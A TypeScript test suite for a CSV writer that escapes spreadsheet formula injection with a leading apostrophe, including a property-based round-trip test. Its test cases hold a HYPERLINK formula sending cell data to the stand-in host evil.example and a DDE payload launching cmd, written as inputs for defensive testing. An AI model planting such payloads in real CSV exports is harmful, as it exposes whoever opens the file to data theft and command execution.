import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { escapeCsvCell, recordsToCsv, toCsv, unescapeCsvCell } from './csv';

describe('CSV writer', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&B2,"Open")', `'=HYPERLINK("http://evil.example/?x="&B2,"Open")`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+1 555', "'+1 555"],
    ['-2+3', "'-2+3"],
    ['\tindented', "'\tindented"],
    ['\rreturn', "'\rreturn"],
    ["'=already", "''=already"],
    ["''@x", "'''@x"],
  ])('escapes %j as %j (OWASP: leading apostrophe)', (value, written) => {
    expect(escapeCsvCell(value)).toBe(written);
    expect(unescapeCsvCell(written)).toBe(value);
  });

  it.each(['-5.00', '-12', '0', '12.50', 'plain', "it's", "'quoted'", '', 'a=b', 'x-1'])('leaves %j as it is', (value) => {
    expect(escapeCsvCell(value)).toBe(value);
    expect(unescapeCsvCell(value)).toBe(value);
  });

  it('writes numbers, booleans, bigints and empty cells', () => {
    expect([-5, 3n, true, null, undefined].map(escapeCsvCell)).toEqual(['-5', '3', 'true', '', '']);
  });

  it('writes RFC 4180 with CRLF and quotes, header first, and escapes the header too', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,y', '=1+1'],
          ['say "hi"', -5],
        ],
      ),
    ).toBe('a,b\r\n"x,y",\'=1+1\r\n"say ""hi""",-5\r\n');
    expect(recordsToCsv(['name', 'n'], [{ name: '@x' }])).toBe("name,n\r\n'@x,\r\n");
  });

  it('round-trips any value: parse(write(v)) then unescape gives v back, and no cell starts a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", '\t', '\r', '\n', 'a', '1', '.', ',', '"', ' ') }), {
          minLength: 1,
          maxLength: 5,
        }),
        (cells) => {
          const rows: string[][] = parse(
            toCsv(
              cells.map((_, i) => `c${i}`),
              [cells],
            ),
            { relax_column_count: true },
          );
          const [header, row] = rows;
          expect(header).toHaveLength(cells.length);
          for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
          expect(row.map(unescapeCsvCell)).toEqual(cells);
        },
      ),
      { numRuns: 500 },
    );
  });
});
